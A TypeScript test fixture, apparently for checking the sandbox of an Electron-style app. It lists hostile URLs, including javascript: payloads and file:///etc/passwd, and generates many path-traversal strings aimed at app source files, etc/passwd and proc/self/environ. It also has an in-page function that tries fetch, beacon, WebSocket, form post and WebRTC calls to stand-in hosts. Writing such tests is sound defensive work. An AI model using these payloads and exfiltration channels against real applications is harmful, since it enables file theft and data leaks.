// Addresses, paths and tricks of somebody who got a word into the page. 192.0.2.0/24 and .example are nobody's.

/** Thirty places to go. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  "https://evil.example/",
  "http://evil.example/",
  "HTTPS://EVIL.EXAMPLE/",
  "//evil.example/",
  "https:evil.example",
  "https://loket@evil.example/",
  "https://app%3a%2f%2floket@evil.example/",
  "https://evil.example./",
  "https://192.0.2.1/",
  "https://[2001:db8::1]/",
  "https://3221225985/",
  "ws://evil.example/",
  "ftp://evil.example/a",
  "app://x.evil/",
  "app://loket.evil/",
  "app://loket:80/",
  "app://loket@evil/",
  "app://LOKET./",
  "app:loket/../../etc/passwd",
  "app:///etc/passwd",
  "file:///etc/passwd",
  "file://evil.example/share/a.html",
  "FILE:///C:/Windows/win.ini",
  "data:text/html,<script>globalThis.diserang=1</script>",
  "javascript:globalThis.diserang=1",
  "JaVaScRiPt:globalThis.diserang=1",
  "\tjavascript:globalThis.diserang=1",
  "vbscript:msgbox(1)",
  "chrome://gpu/",
  "devtools://devtools/bundled/inspector.html",
];

const UP = [
  "..",
  "%2e%2e",
  ".%2e",
  "%2e.",
  "..%2f..",
  "..%5c..",
  "%252e%252e",
  "..;",
  "....",
  "%c0%ae%c0%ae",
];
const SLASHES = ["/", "%2f", "\\", "%5c"];
const GOALS = ["main/main.js", "preload/preload.cjs", "package.json", "etc/passwd"];
const ODD = [
  "CON",
  "PRN.js",
  "AUX.html",
  "NUL",
  "COM1.css",
  "LPT1.json",
  "index.html::$DATA",
  "index.html:stream",
  "index.html.",
  "index.html%20",
  "index.html%00",
  "index.html%00.js",
  "%00",
  "%",
  "%zz",
  "%e0%80%af",
  "C:/Windows/win.ini",
  "C%3a%5cWindows%5cwin.ini",
  "//192.0.2.1/share/a.js",
  "%5c%5c192.0.2.1%5cshare%5ca.js",
  "%5c%5c%3f%5cC%3a%5ca.js",
  "INDEX.HTML",
  "assets",
  "assets/",
  "assets/..%2f..%2fmain/main.js",
  "./%2e/index.html%2f",
  "index.html/",
  `${"a/".repeat(5_000)}x.js`,
  `${"x".repeat(40_000)}.js`,
  "paper/../../main/main.js",
  "paper/00000000-0000-0000-0000-000000000000.pdf",
  "paper/%2e%2e%2fmain.pdf",
  "index.html%3f.js",
  "index.html%23.js",
  "proc/self/environ",
  "dev/null.js",
  "~/x.js",
  "$HOME/x.js",
  "%HOME%/x.js",
  "index.htm",
];

/** Two hundred ways out of the folder of the bundle, or to what is no file of it. */
export function traversals(): string[] {
  const climbs = UP.flatMap((up) =>
    SLASHES.flatMap((slash) => GOALS.map((goal) => `${`${up}${slash}`.repeat(3)}${goal}`)),
  );
  return [...climbs, ...ODD];
}

/** Runs in the page: everything it could try to reach somebody with. Answers the names of what succeeded. */
export async function NETWORK_TRICKS(): Promise<string[]> {
  const place = "192.0.2.1";
  const reached: string[] = [];
  const loads = (name: string, element: HTMLElement) =>
    new Promise<void>((resolve) => {
      element.addEventListener("load", () => {
        reached.push(name);
        resolve();
      });
      element.addEventListener("error", () => resolve());
      setTimeout(resolve, 800);
      document.head.append(element);
    });
  const made = (tag: string, values: Record<string, string>) =>
    Object.assign(document.createElement(tag), values);
  for (const url of [`http://${place}/`, `https://${place}/`, "https://evil.example/"])
    await fetch(url, { mode: "no-cors" }).then(
      () => reached.push(url),
      () => undefined,
    );
  await loads("image", made("img", { src: `http://${place}/a.png` }));
  await loads("script", made("script", { src: `http://${place}/a.js` }));
  await loads("style", made("link", { rel: "stylesheet", href: `http://${place}/a.css` }));
  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender", "preload"])
    document.head.append(made("link", { rel, href: "https://evil.example/", as: "script" }));
  navigator.sendBeacon(`http://${place}/`, "x");
  try {
    new WebSocket(`ws://${place}/`).onopen = () => reached.push("websocket");
  } catch {
    // refused at once by the policy
  }
  try {
    new EventSource(`http://${place}/`).onopen = () => reached.push("eventsource");
  } catch {
    // refused at once by the policy
  }
  const form = made("form", { action: `http://${place}/`, method: "post" }) as HTMLFormElement;
  document.body.append(form);
  form.submit();
  const peer = new RTCPeerConnection({
    iceServers: [
      { urls: [`stun:${place}:3478`, "stun:evil.example:3478"] },
      { urls: `turn:${place}:3478?transport=tcp`, username: "a", credential: "b" },
    ],
  });
  peer.createDataChannel("x");
  peer.onicecandidate = ({ candidate }) => {
    if (candidate && /srflx|relay/.test(candidate.candidate)) reached.push("webrtc");
  };
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 1500));
  peer.close();
  return reached;
}
